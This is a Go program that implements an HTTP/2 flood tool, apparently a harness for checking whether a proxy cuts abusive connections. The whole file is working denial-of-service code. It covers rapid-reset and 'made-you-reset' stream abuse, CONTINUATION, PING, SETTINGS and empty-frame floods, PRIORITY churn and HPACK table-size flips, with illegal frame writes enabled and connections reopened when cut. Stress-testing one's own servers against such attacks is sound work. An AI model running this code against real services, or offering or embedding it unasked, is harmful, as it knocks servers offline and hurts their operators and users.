package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net"
	"sort"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attack is a client that has said hello over HTTP/2 and now does harm.
type attack struct {
	framer *http2.Framer
	writer *bufio.Writer
	target string
	next   uint32
	value  uint32
}

func (a *attack) stream() uint32 {
	a.next += 2
	return a.next - 2
}

func (a *attack) head() []byte { return a.headOf("/") }

func (a *attack) headOf(path string) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, field := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", a.target}, {":path", path}} {
		_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: true})
	}
	return block.Bytes()
}

func (a *attack) open(end bool) uint32 {
	id := a.stream()
	_ = a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.head(), EndHeaders: true, EndStream: end})
	return id
}

// floods say how each begins on a connection, which may be nothing, and what it repeats.
var floods = map[string]struct{ begin, repeat func(*attack) }{
	"rapid-reset": {nil, func(a *attack) {
		_ = a.framer.WriteRSTStream(a.open(true), http2.ErrCodeCancel)
	}},
	"made-you-reset": {nil, func(a *attack) {
		// An increment of zero, which the framer would not write.
		_ = a.framer.WriteRawFrame(http2.FrameWindowUpdate, 0, a.open(false), []byte{0, 0, 0, 0})
	}},
	"malformed": {nil, func(a *attack) {
		_ = a.framer.WriteHeaders(http2.HeadersFrameParam{
			StreamID: a.stream(), BlockFragment: a.headOf("/#"), EndHeaders: true, EndStream: true})
	}},
	"continuation": {func(a *attack) {
		_ = a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: a.stream(), BlockFragment: a.head()})
	}, func(a *attack) { _ = a.framer.WriteContinuation(1, false, nil) }},
	"ping":     {nil, func(a *attack) { _ = a.framer.WritePing(false, [8]byte{1}) }},
	"settings": {nil, func(a *attack) { _ = a.framer.WriteSettings() }},
	"empty-data": {func(a *attack) { a.open(false) }, func(a *attack) {
		_ = a.framer.WriteData(1, false, nil)
	}},
	"empty-headers": {nil, func(a *attack) {
		_ = a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: a.stream(), EndHeaders: true, EndStream: true})
	}},
	"priority": {nil, func(a *attack) {
		a.value++
		_ = a.framer.WritePriority(a.stream(), http2.PriorityParam{StreamDep: 0, Weight: uint8(a.value)})
	}},
	"window-update": {nil, func(a *attack) { _ = a.framer.WriteWindowUpdate(0, 1) }},
	"hpack-flips": {nil, func(a *attack) {
		// The table goes to nothing and back, again and again, before each head.
		flips := bytes.Repeat([]byte{0x20, 0x3f, 0xe1, 0x1f}, 200)
		_ = a.framer.WriteHeaders(http2.HeadersFrameParam{
			StreamID: a.stream(), BlockFragment: append(flips, a.head()...), EndHeaders: true, EndStream: true})
	}},
}

// A connection that is younger when the attack ends says nothing; seconds.
const tolerable = 2

// flood attacks from several connections, each opened again when it is cut, and says how long they lasted.
func flood(arguments []string) error {
	flags := flag.NewFlagSet("flood", flag.ExitOnError)
	target := flags.String("target", "", "the proxy")
	kind := flags.String("kind", "", "what to flood with; wrong names are answered with all")
	connections := flags.Int("connections", 4, "at a time")
	seconds := flags.Float64("seconds", 5, "for how long")
	_ = flags.Parse(arguments)
	step, known := floods[*kind]
	if !known {
		names := make([]string, 0, len(floods))
		for name := range floods {
			names = append(names, name)
		}
		sort.Strings(names)
		return fmt.Errorf("%q is none of %s", *kind, strings.Join(names, ", "))
	}
	end := time.Now().Add(time.Duration(*seconds * float64(time.Second)))
	var mutex sync.Mutex
	var longest float64
	var cut, lasting int
	var group sync.WaitGroup
	fmt.Println("begin")
	for range *connections {
		group.Go(func() {
			for time.Now().Before(end) {
				lasted, wasCut := attackOnce(*target, step.begin, step.repeat, end)
				mutex.Lock()
				longest = max(longest, lasted)
				if wasCut {
					cut++
				} else if lasted > tolerable {
					lasting++
				}
				mutex.Unlock()
				time.Sleep(10 * time.Millisecond)
			}
		})
	}
	group.Wait()
	line, err := json.Marshal(map[string]any{"cut": cut, "lasting": lasting, "longest": longest})
	fmt.Println(string(line))
	return err
}

// attackOnce attacks on one connection until it is cut or the time is over; seconds since the first harm, 0 if it never came to that.
func attackOnce(target string, begin, repeat func(*attack), end time.Time) (float64, bool) {
	c, err := net.DialTimeout("tcp", target, time.Second)
	if err != nil {
		return 0, false
	}
	defer c.Close()
	_ = c.SetDeadline(end)
	cut := make(chan time.Time, 1)
	go func() {
		_, _ = io.Copy(io.Discard, c)
		cut <- time.Now()
	}()
	writer := bufio.NewWriterSize(c, 4096)
	a := &attack{framer: http2.NewFramer(writer, nil), writer: writer, target: target, next: 1}
	a.framer.AllowIllegalWrites = true
	_, _ = writer.WriteString(http2.ClientPreface)
	_ = a.framer.WriteSettings()
	_ = a.framer.WriteSettingsAck()
	if begin != nil {
		begin(a)
	}
	since := time.Now()
	for time.Now().Before(end) {
		for range 64 {
			repeat(a)
		}
		if writer.Flush() != nil {
			break
		}
	}
	at := <-cut
	return at.Sub(since).Seconds(), at.Before(end)
}
